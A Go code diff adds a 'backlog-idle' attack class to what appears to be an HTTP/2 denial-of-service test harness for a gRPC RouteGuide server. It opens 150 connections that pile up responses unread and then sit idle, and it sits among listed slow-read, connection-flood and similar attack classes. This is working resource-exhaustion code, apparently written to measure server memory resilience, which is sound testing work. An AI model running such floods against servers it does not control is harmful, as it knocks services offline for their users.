@@ -83,6 +83,7 @@ var allClasses = []class{
 	{"stream-exhaustion", "every connection's streams held open (RouteChat, never ended), 150 connections", streamExhaustion},
 	{"slow-read", "large responses read through 1-byte windows, 100 streams on 20 connections (CVE-2019-9517, CVE-2019-9511)", slowRead},
 	{"unsent-bodies", "requests declaring 1 MiB bodies never sent, answered at once (404), 20 000 streams/s on 4 connections", unsentBodies},
+	{"backlog-idle", "responses piled up in the server (64 ListFeatures a connection, read after 300 ms through a 4 KiB socket buffer), then the connections held idle, 150 connections", backlogIdle},
 	{"body-dribble", "request bodies sent a byte a second, 100 streams on 20 connections", bodyDribble},
 	{"no-settings", "500 connections that send the preface and never SETTINGS", noSettings},
 	{"connection-flood", "2 000 connections a second that send nothing", connectionFlood},
@@ -706,6 +707,48 @@ func slowRead(a *attacker) {
 		}
 		return fr.WriteWindowUpdate(0, 1)
 	})
+}
+
+// backlogIdle opens connections whose responses pile up in the server:
+// windows wide open, 64 ListFeatures calls (about 400 KiB of answers)
+// asked at once, and nothing read for 300 ms through a 4 KiB socket
+// buffer. Then each connection reads everything and stays open, idle,
+// until the attack ends: what a server keeps of a drained backlog shows
+// in its RSS at the end.
+func backlogIdle(a *attacker) {
+	msg := listFeaturesRequest()
+	var wg sync.WaitGroup
+	for range 150 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			nc, fr, flush, err := a.dial(true, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
+			if err != nil {
+				return
+			}
+			_ = fr.WriteWindowUpdate(0, 1<<30)
+			var buf bytes.Buffer
+			enc := hpack.NewEncoder(&buf)
+			for i := range 64 {
+				id := uint32(2*i + 1)
+				block := requestBlock(enc, &buf, "POST", "/routeguide.v1.RouteGuideService/ListFeatures", "application/grpc")
+				_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
+				_ = fr.WriteData(id, true, msg)
+			}
+			if flush() != nil {
+				return
+			}
+			select {
+			case <-a.ctx.Done():
+				return
+			case <-time.After(300 * time.Millisecond):
+			}
+			_, _ = io.Copy(io.Discard, nc) // until the attack closes it
+		}()
+	}
+	<-a.ctx.Done()
+	a.stop()
+	wg.Wait()
 }
 
 func bodyDribble(a *attacker) {
